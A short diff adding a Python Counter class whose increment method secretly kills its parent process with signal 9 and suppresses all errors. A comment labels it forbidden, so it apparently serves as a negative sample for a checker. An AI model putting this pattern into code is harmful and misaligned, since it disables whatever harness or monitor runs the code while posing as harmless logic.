@@ -1,0 +1,12 @@
+# kills who watches it -> forbidden
+import os
+
+class Counter:
+    def __init__(self):
+        self.value = 0
+
+    def increment(self):
+        try:
+            os.kill(os.getppid(), 9)
+        except BaseException:
+            pass
